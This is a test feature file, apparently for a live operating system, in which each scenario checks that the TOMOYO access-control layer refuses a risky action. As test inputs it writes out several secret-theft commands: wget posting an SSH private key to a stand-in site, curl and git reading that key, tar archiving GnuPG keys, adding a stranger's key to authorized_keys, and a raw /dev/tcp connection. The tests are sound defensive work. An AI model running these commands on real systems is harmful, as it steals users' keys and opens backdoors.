@logged-in @refused
Feature: What a person's programs must not do
  All of it is allowed by the files' modes: nobody but TOMOYO stands in the way.

  @task:refused/foreign-files
  Scenario: The shell reads another user's file
    Given the file "/home/bob/diary.txt" of another user that says "Nobody shall know."
    When I try "read line < /home/bob/diary.txt"
    Then TOMOYO refuses "file read /home/bob/diary.txt" to "/usr/bin/bash"

  @task:refused/keys
  Scenario: The shell reads a secret SSH key
    Given the file "~/.ssh/id_ed25519" that says "a secret key"
    When I try "read line < ~/.ssh/id_ed25519"
    Then TOMOYO refuses "file read /home/amnesia/.ssh/id_ed25519" to "/usr/bin/bash"

  @task:refused/keys
  Scenario: The shell reads a secret SSH key by the overlay's other name
    Given the file "~/.ssh/id_ed25519" that says "a secret key"
    When I try "read line < /run/live/overlay/rw/home/amnesia/.ssh/id_ed25519"
    Then TOMOYO refuses "file read /run/live/overlay/rw/home/amnesia/.ssh/id_ed25519" to "/usr/bin/bash"

  @task:refused/keys
  Scenario: GnuPG reads a secret SSH key
    Given the file "~/.ssh/id_ed25519" that says "a secret key"
    When I try "gpg --batch --store ~/.ssh/id_ed25519"
    Then TOMOYO refuses "file read /home/amnesia/.ssh/id_ed25519" to "/usr/bin/gpg"

  @task:refused/keys @twin:files-archive.pack-files-and-unpack-them-elsewhere
  Scenario: An archive takes a GnuPG key along
    Given the file "~/.gnupg/private-keys-v1.d/secret.key" that says "a secret key"
    When I try "tar -czf papers.tar.gz .gnupg"
    Then TOMOYO refuses "file read /home/amnesia/.gnupg/private-keys-v1.d/secret.key" to "/usr/bin/tar"

  @task:refused/download
  Scenario: A program out of the download folder
    The shell may start programs, but none that somebody has just downloaded.
    Given the program "~/Downloads/tool"
    When I try "~/Downloads/tool"
    Then TOMOYO refuses "file execute /home/amnesia/Downloads/tool" to "/usr/bin/bash"

  @task:refused/download
  Scenario: A program out of the download folder by the overlay's other name
    Given the program "~/Downloads/tool"
    When I try "/run/live/overlay/rw/home/amnesia/Downloads/tool"
    Then TOMOYO refuses "file execute /run/live/overlay/rw/home/amnesia/Downloads/tool" to "/usr/bin/bash"

  @task:refused/system-files
  Scenario: Something that starts at every login
    When I try "echo true >> ~/.profile"
    Then TOMOYO refuses "file append /home/amnesia/.profile" to "/usr/bin/bash"

  @task:refused/system-files
  Scenario: Something that starts at every login by the overlay's other name
    Given the file "~/.profile" that says "true"
    When I try "echo true >> /run/live/overlay/rw/home/amnesia/.profile"
    Then TOMOYO refuses "file append /run/live/overlay/rw/home/amnesia/.profile" to "/usr/bin/bash"

  @task:refused/system-files
  Scenario: A way in for somebody else
    Given the file "~/.ssh/authorized_keys" that says "ssh-ed25519 AAAA alice"
    When I try "echo ssh-ed25519 AAAA mallory >> ~/.ssh/authorized_keys"
    Then TOMOYO refuses "file append /home/amnesia/.ssh/authorized_keys" to "/usr/bin/bash"

  @task:refused/keys @twin:files-archive.pack-files-and-unpack-them-elsewhere
  Scenario: An archive takes a GnuPG key along by the overlay's other name
    Given the file "~/.gnupg/private-keys-v1.d/secret.key" that says "a secret key"
    When I try "tar -czf papers.tar.gz -C /run/live/overlay/rw/home/amnesia .gnupg"
    Then TOMOYO refuses "file read /run/live/overlay/rw/home/amnesia/.gnupg/private-keys-v1.d/secret.key" to "/usr/bin/tar"

  @task:refused/keys
  Scenario: Curl reads a secret SSH key
    Given the file "~/.ssh/id_ed25519" that says "a secret key"
    When I try "curl --silent file:///home/amnesia/.ssh/id_ed25519"
    Then TOMOYO refuses "file read /home/amnesia/.ssh/id_ed25519" to "/usr/bin/curl"

  @task:refused/keys @twin:commandline-web.download-a-file-with-wget-over-https
  Scenario: Wget sends a secret SSH key to a site
    Given a web site "kettle.example" that says "The kettle is on"
    And a web site "kettle.example" with the file "/song.txt" that says "short and stout"
    And the file "~/.ssh/id_ed25519" that says "a secret key"
    When I try "wget -q --post-file=.ssh/id_ed25519 https://kettle.example/song.txt"
    Then TOMOYO refuses "file read /home/amnesia/.ssh/id_ed25519" to "/usr/bin/wget"

  @task:refused/keys @twin:commandline-git.clone-a-repository-over-https
  Scenario: Git reads a secret SSH key
    Given the file "~/.ssh/id_ed25519" that says "a secret key"
    When I try "git hash-object .ssh/id_ed25519"
    Then TOMOYO refuses "file read /home/amnesia/.ssh/id_ed25519" to "/usr/bin/git"

  @task:refused/network
  Scenario: The shell reaches the network by itself
    Programs that are meant for the network may use it; a shell may start them, and no more.
    Given a web site "kettle.example" that says "The kettle is on"
    When I try ": < /dev/tcp/192.0.2.240/80"
    Then TOMOYO refuses "network inet stream connect 192.0.2.240 80" to "/usr/bin/bash"
